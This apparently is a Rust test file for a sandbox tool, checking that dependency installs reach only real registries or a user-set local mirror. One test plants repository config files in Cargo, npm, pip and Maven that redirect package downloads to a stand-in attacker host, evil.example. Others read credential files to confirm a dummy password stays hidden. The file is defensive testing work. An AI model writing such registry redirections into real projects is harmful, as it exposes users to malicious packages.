//! What `registries` lets set-up reach: the package managers' own hosts, here
//! a mirror on this machine that the user has set, and never one that the
//! repository names.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use crate::support::{Ran, Site, finish, shell_script};

/// Serves a folder over http, on an address that no program takes for its own
/// machine's and so past the proxy.
pub(crate) struct Mirror {
    pub(crate) address: SocketAddr,
    /// The requests so far.
    seen: Arc<Mutex<Vec<String>>>,
}

impl Mirror {
    pub(crate) fn of(folder: PathBuf) -> Self {
        let listener = TcpListener::bind("127.0.0.2:0").expect("loopback has more than one address");
        let address = listener.local_addr().expect("it is bound");
        let seen = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let request = request(&stream);
                // before whoever asked can know that it did
                kept.lock().expect("nobody panics with it").push(request.clone());
                answer(stream, &folder, &request);
            }
        });
        Self { address, seen }
    }

    pub(crate) fn seen(&self) -> Vec<String> {
        self.seen.lock().expect("nobody panics with it").clone()
    }
}

fn request(mut stream: &TcpStream) -> String {
    let (mut request, mut byte) = (Vec::new(), [0]);
    while !request.ends_with(b"\r\n\r\n") && matches!(stream.read(&mut byte), Ok(1)) {
        request.push(byte[0]);
    }
    String::from_utf8_lossy(&request).into_owned()
}

/// With the file, or in a folder with its `index`.
fn answer(mut stream: TcpStream, folder: &Path, request: &str) {
    let path = request.split(' ').nth(1).unwrap_or("/").trim_matches('/');
    let file = folder.join(path);
    let file = if file.is_dir() { file.join("index") } else { file };
    let kind = if path.starts_with("npm") { "application/json" } else { "text/html" };
    let (status, body) = std::fs::read(file).map_or(("404 Not Found", Vec::new()), |body| ("200 OK", body));
    let length = body.len();
    let head = format!(
        "HTTP/1.1 {status}\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
    );
    let _ = stream.write_all(&[head.as_bytes(), &body].concat());
}

fn write(folder: &Path, name: &str, text: String) {
    let path = folder.join(name);
    std::fs::create_dir_all(path.parent().expect("it has one")).expect("a folder is made");
    std::fs::write(path, text).expect("a file is written");
}

/// That a connection to the mirror was refused, for the rule `none`, with what would allow it.
fn assert_refused_by_none(ran: &Ran, address: SocketAddr) {
    let refused = ran.report()["refused"].as_array().expect("a list");
    let refusal = refused.iter().find(|refusal| refusal["action"] == format!("network-connect {address}"));
    let refusal = refusal.unwrap_or_else(|| panic!("{:#}\n{}", ran.report(), ran.stderr));
    assert_eq!(refusal["reason"], "the network rule of this phase is `none`");
    let remedy = format!("`network.setup = \"{address}\"` in the settings would allow it");
    assert!(refusal["remedy"].as_str().is_some_and(|said| said.starts_with(&remedy)), "{refusal}");
}

/// Puts a Python and a JavaScript package called `thing` into a folder, as
/// indexes of the two kinds serve them.
fn publish_things(folder: &Path, address: SocketAddr) {
    let write = |name: &str, text: String| write(folder, name, text);
    write("wheel/thing.py", "word = 'from the mirror'\n".into());
    write("wheel/thing-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n".into());
    write(
        "wheel/thing-1.0.dist-info/WHEEL",
        "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n".into(),
    );
    write("wheel/thing-1.0.dist-info/RECORD", String::new());
    let wheel = "thing-1.0-py3-none-any.whl";
    run(
        &folder.join("wheel"),
        "python3",
        &["-m", "zipfile", "-c", &format!("../{wheel}"), "thing.py", "thing-1.0.dist-info"],
    );
    write("simple/thing/index", format!("<a href=\"/{wheel}\">{wheel}</a>"));
    write("package/package.json", json!({ "name": "thing", "version": "1.0.0", "main": "i.js" }).to_string());
    write("package/i.js", "module.exports = 'from the mirror'\n".into());
    run(folder, "tar", &["-czf", "thing.tgz", "package"]);
    let tarball = format!("http://{address}/thing.tgz");
    let version = json!({ "name": "thing", "version": "1.0.0", "dist": { "tarball": tarball } });
    let versions =
        json!({ "name": "thing", "dist-tags": { "latest": "1.0.0" }, "versions": { "1.0.0": version } });
    write("npm/thing", versions.to_string());
}

/// Puts a Rust package called `thing` into a folder, as a sparse index and the
/// files that it leads to.
fn publish_crate(folder: &Path, address: SocketAddr) {
    let write = |name: &str, text: String| write(folder, name, text);
    let manifest = "[package]\nname = \"thing\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
    write("thing-1.0.0/Cargo.toml", manifest.into());
    write("thing-1.0.0/src/lib.rs", "pub const WORD: &str = \"from the mirror\";\n".into());
    run(folder, "tar", &["-czf", "thing-1.0.0.crate", "thing-1.0.0"]);
    let sum = Command::new("sha256sum").arg(folder.join("thing-1.0.0.crate")).output().expect("it runs");
    let sum = String::from_utf8_lossy(&sum.stdout).split(' ').next().expect("a sum").to_owned();
    let files = format!("http://{address}/{{crate}}-{{version}}.crate");
    write("index/config.json", json!({ "dl": files, "api": null }).to_string());
    let entry = json!({ "name": "thing", "vers": "1.0.0", "deps": [], "cksum": sum, "features": {}, "yanked": false });
    write("index/th/in/thing", format!("{entry}\n"));
}

fn run(folder: &Path, program: &str, arguments: &[&str]) {
    let status = Command::new(program).current_dir(folder).args(arguments).stdin(Stdio::null()).status();
    assert!(status.is_ok_and(|status| status.success()), "{program} {arguments:?}");
}

/// Without them there is nothing to try; in CI they are there.
pub(crate) fn has(programs: &[&str]) -> bool {
    let runs = |program: &&str| {
        let found =
            Command::new(program).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status();
        found.is_ok_and(|status| status.success())
    };
    let all = programs.iter().all(runs);
    assert!(all || std::env::var_os("CI").is_none(), "one of {programs:?} does not run");
    all
}

/// What `sortie env learn` prints.
pub(crate) fn learn(site: &Site, arguments: &[&str]) -> String {
    let output = site.sortie().args(["env", "learn"]).args(arguments).output().expect("sortie runs");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// The hosts that the package managers named.
pub(crate) fn learned(ran: &Ran) -> Vec<&str> {
    let event = ran
        .of_type("registries.learned")
        .next()
        .unwrap_or_else(|| panic!("nobody was asked: {}", ran.stderr));
    event["hosts"].as_array().expect("a list").iter().filter_map(Value::as_str).collect()
}

#[test]
fn pip_and_npm_install_from_the_users_mirror_and_from_nowhere_without_a_rule() {
    if !has(&["python3", "npm", "node"]) {
        return eprintln!("skipped: python3, npm or node do not run");
    }
    let site = Site::empty();
    let folder = site.path().join("mirror");
    std::fs::create_dir(&folder).expect("a folder is made");
    let mirror = Mirror::of(folder.clone());
    let address = mirror.address;
    publish_things(&folder, address);
    site.write("requirements.txt", "thing==1.0\n");
    site.write("package.json", json!({ "name": "x", "dependencies": { "thing": "1.0.0" } }).to_string());
    site.write(".npmrc", "fetch-retries=0\n");
    site.publish();
    let run = |rule: &str, commands: &[&str]| {
        site.aside(
            "config.toml",
            format!("# mine\n[network]\nsetup = \"{rule}\"\ntrusted = [\"{address}\"]\n"),
        );
        let mut command = site.scripted(&shell_script(commands));
        let index = format!("http://user:hunter2@{address}/simple");
        // the second in the place of this machine's own, if it has one
        command.env("PIP_INDEX_URL", &index).env("PIP_EXTRA_INDEX_URL", index);
        command.env("NPM_CONFIG_REGISTRY", format!("http://user:hunter2@{address}/npm/"));
        command.env_remove("npm_config_registry");
        Ran::of(&mut command)
    };

    let ran = run("none", &[]);
    assert_refused_by_none(&ran, address);
    assert!(mirror.seen().is_empty());
    assert_eq!(ran.of_type("registries.learned").count(), 0, "nobody is asked without need");

    let python = ".venv/bin/python -c 'import thing; print(\"python:\", thing.word)'";
    let ran = run("registries", &[python, "node -p '\"node: \" + require(\"thing\")'", "env; cat ~/.npmrc"]);
    let results = ran.tool_results();
    for line in ["python: from the mirror", "node: from the mirror"] {
        assert!(results.contains(line), "{line}: {results}\n{:#}\n{}", ran.report(), ran.stderr);
    }
    let mut hosts = learned(&ran);
    hosts.retain(|host| *host != address.to_string());
    assert_eq!(hosts, Vec::<&str>::new(), "defaults that are replaced do not count");
    assert!(
        ran.report()["network"]["received"].as_u64().is_some_and(|bytes| bytes > 0),
        "{:#}",
        ran.report()
    );
    assert!(!results.contains("hunter2"), "a credential is in the workspace: {results}");
    assert!(mirror.seen().iter().all(|request| !request.to_lowercase().contains("authorization")));

    // what it contacted is what the next one may contact
    let lines = format!("[network]\nsetup = \"{address}\"\n");
    assert_eq!(learn(&site, &[]), lines);
    assert_eq!(learn(&site, &["--write"]), lines);
    let settings = std::fs::read_to_string(site.path().join("config.toml")).expect("it is there");
    assert_eq!(settings, format!("# mine\n[network]\nsetup = \"{address}\"\ntrusted = [\"{address}\"]\n"));
}

#[test]
fn a_repository_cannot_name_a_registry_for_itself() {
    let site = Site::empty();
    site.write("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.0.0\"\n[dependencies]\nthing = \"1\"\n");
    site.write("src/lib.rs", "");
    let evil = "http://evil.example:8081";
    site.write(
        ".cargo/config.toml",
        format!(
            "[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+{evil}/\"\n\
             [registries.evil]\nindex = \"sparse+{evil}/\"\n[net]\nretry = 0\n"
        ),
    );
    site.write("package.json", json!({ "name": "x", "dependencies": { "thing": "1.0.0" } }).to_string());
    site.write(".npmrc", format!("registry={evil}/\n@x:registry={evil}/\nfetch-retries=0\n"));
    site.write("pip.conf", format!("[global]\nindex-url = {evil}/simple\n"));
    site.write("go.mod", "module x\n");
    site.write(
        "pom.xml",
        format!(
            "<project><repositories><repository><url>{evil}/</url></repository></repositories></project>"
        ),
    );
    site.write(".sortie/config.toml", "[network]\nsetup = \"registries,evil.example:8081\"\n");
    site.publish();
    site.aside("config.toml", "install = \"cargo fetch\"\n[network]\nsetup = \"registries\"\n");
    let ran = Ran::of(&mut site.scripted(&json!({ "replies": [finish("done")] })));
    let hosts = learned(&ran);
    assert!(!hosts.is_empty(), "cargo is there and has a registry: {}", ran.stderr);
    assert!(hosts.iter().all(|host| !host.starts_with("evil.example")), "{hosts:?}");
    let refused = ran.report()["refused"].as_array().expect("a list");
    let refusal = refused.iter().find(|refusal| refusal["action"] == "network-connect evil.example:8081");
    let refusal = refusal.unwrap_or_else(|| panic!("{:#}\n{}", ran.report(), ran.stderr));
    assert_eq!(refusal["policy"], "default");
    assert_eq!(refusal["reason"], "the network rule of this phase is `registries`");
}

#[test]
fn cargo_fetches_from_the_users_mirror_and_from_nowhere_without_a_rule() {
    let site = Site::empty();
    let folder = site.path().join("mirror");
    std::fs::create_dir(&folder).expect("a folder is made");
    let mirror = Mirror::of(folder.clone());
    let address = mirror.address;
    publish_crate(&folder, address);
    site.write(
        "Cargo.toml",
        "[package]\nname = \"x\"\nversion = \"0.0.0\"\nedition = \"2021\"\n[dependencies]\nthing = \"1\"\n",
    );
    site.write("src/main.rs", "fn main() { println!(\"rust: {}\", thing::WORD) }\n");
    site.write(".cargo/config.toml", "[net]\nretry = 0\n");
    site.publish();
    // the user's own cargo, with a home in which nothing but the mirror is set
    let config = format!(
        "[source.crates-io]\nreplace-with = \"mine\"\n\
         [source.mine]\nregistry = \"sparse+http://user:hunter2@{address}/index/\"\n"
    );
    let home = site.path().join("cargo");
    std::fs::create_dir(&home).expect("a folder is made");
    std::fs::write(home.join("config.toml"), config).expect("a file is written");
    let sysroot = Command::new("rustc").args(["--print", "sysroot"]).output().expect("rustc runs").stdout;
    let programs = PathBuf::from(String::from_utf8(sysroot).expect("a path").trim()).join("bin");
    let path = std::env::var_os("PATH").expect("it is set");
    let path = std::env::join_paths([programs].into_iter().chain(std::env::split_paths(&path)));
    let path = path.expect("folders without colons");
    let run = |rule: &str, commands: &[&str]| {
        site.aside(
            "config.toml",
            format!(
                "[network]\nsetup = \"{rule}\"\ntrusted = [\"{address}\"]\n[test]\ncommand = [\"true\"]\n"
            ),
        );
        let mut command = site.scripted(&shell_script(commands));
        Ran::of(command.env("CARGO_HOME", &home).env("PATH", &path))
    };

    let ran = run("none", &[]);
    assert_refused_by_none(&ran, address);
    let refused = ran.report()["refused"].as_array().expect("a list");
    assert_eq!(refused.len(), 1, "{refused:#?}");
    assert_eq!(ran.report()["network"]["sent"], 0);
    assert!(mirror.seen().is_empty());

    let ran = run("registries", &["cargo run --offline --quiet", "env; cat ~/.cargo/config.toml"]);
    let results = ran.tool_results();
    assert!(
        results.contains("rust: from the mirror"),
        "{results}\n{:#}\n{}\n{:#?}",
        ran.report(),
        ran.stderr,
        mirror.seen()
    );
    assert_eq!(learned(&ran), [address.to_string()], "a default that is replaced does not count");
    assert!(!results.contains("hunter2"), "a credential is in the workspace: {results}");
    assert!(mirror.seen().iter().all(|request| !request.to_lowercase().contains("authorization")));
}
